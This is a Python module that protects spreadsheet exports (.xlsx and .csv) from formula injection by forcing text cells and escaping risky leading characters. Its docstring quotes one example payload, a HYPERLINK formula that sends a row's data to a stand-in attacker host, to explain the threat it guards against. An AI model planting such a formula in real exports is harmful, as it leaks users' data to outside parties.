"""Cells of every spreadsheet the platform writes (.xlsx and .csv): text stays text, never a formula.

A record's text is written by users (a finding's description, an organization's name set by an import) and read
by others in Excel or WPS, where a cell beginning with ``=``, ``+``, ``-`` or ``@`` — or with a tab or carriage
return ahead of one — is taken for a formula (``=HYPERLINK("http://evil.example/?"&A2,"x")`` sends the row away
when clicked). So:

- in .xlsx every text value is written as a string cell (openpyxl would otherwise store text beginning with ``=``
  as a formula): `xlsx_row` for write-only sheets, `append` for any sheet;
- in .csv a text value beginning with one of those characters — or with the apostrophe itself, so that the rule
  can be undone exactly — is prefixed with an apostrophe, which spreadsheet programs show as a text marker:
  `csv_row`, `csv_writer`. The import reads such a cell back unchanged (`csv_unescape`).

Every export writer goes through here (core.exports, the indicators' drill-through, the audit export, the
year-in-review workbook); a new writer should too.
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any, Protocol

if TYPE_CHECKING:
    from _csv import Writer

    from openpyxl.cell.cell import Cell, MergedCell
    from openpyxl.workbook.workbook import Workbook
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

# What a spreadsheet program may read as the start of a formula (OWASP "CSV injection"), plus the apostrophe the
# CSV escape itself uses.
FORMULA_START = frozenset("=+-@\t\r")
CSV_ESCAPED = FORMULA_START | {"'"}


def is_formula_like(text: str) -> bool:
    return bool(text) and text[0] in FORMULA_START


# ---- .csv ----------------------------------------------------------------------------------------

def csv_cell(value: object) -> object:
    """A value as a CSV field: dates in ISO form, None empty, risky text behind an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, str):
        return "'" + value if value and value[0] in CSV_ESCAPED else value
    if isinstance(value, dt.date):
        return value.isoformat()
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(v) for v in values]


def csv_unescape(text: str) -> str:
    """The text an exported CSV field stood for (the inverse of csv_cell on text)."""
    if len(text) > 1 and text[0] == "'" and text[1] in CSV_ESCAPED:
        return text[1:]
    return text


class _SafeWriter:
    def __init__(self, writer: Writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


class _TextStream(Protocol):
    def write(self, text: str, /) -> object: ...


def csv_writer(stream: _TextStream, **kwargs: Any) -> _SafeWriter:
    """csv.writer whose rows go through csv_cell."""
    return _SafeWriter(csv.writer(stream, **kwargs))


# ---- .xlsx ---------------------------------------------------------------------------------------

def text_cell(cell: Cell | MergedCell) -> Cell | MergedCell:
    """Mark an openpyxl cell holding text as a string cell (never a formula); returns the cell."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def xlsx_row(ws: Worksheet | WriteOnlyWorksheet, values: Iterable[Any],
             formats: dict[type, str] | None = None) -> list[Cell]:
    """WriteOnlyCells for a write-only sheet's row: text as strings; `formats` maps a Python type to a number
    format (e.g. {dt.date: "yyyy-mm-dd", str: "@"})."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        cell = WriteOnlyCell(ws, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        if formats:
            for kind, number_format in formats.items():
                if isinstance(value, kind):
                    cell.number_format = number_format
                    break
        cells.append(cell)
    return cells


def append(ws: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """ws.append for any sheet (write-only or not), text written as string cells."""
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    if isinstance(ws, WriteOnlyWorksheet):
        ws.append(xlsx_row(ws, values))
        return
    ws.append(list(values))
    for cell in ws[ws.max_row]:
        text_cell(cell)


def first_sheet(book: Workbook) -> Worksheet:
    """The one sheet a new workbook opens with, ready to write (openpyxl's `active` may name any sheet or none)."""
    from openpyxl.worksheet.worksheet import Worksheet

    sheet = book.active
    if not isinstance(sheet, Worksheet):
        raise TypeError(f"the workbook opens on a {type(sheet).__name__}, not a worksheet")
    return sheet
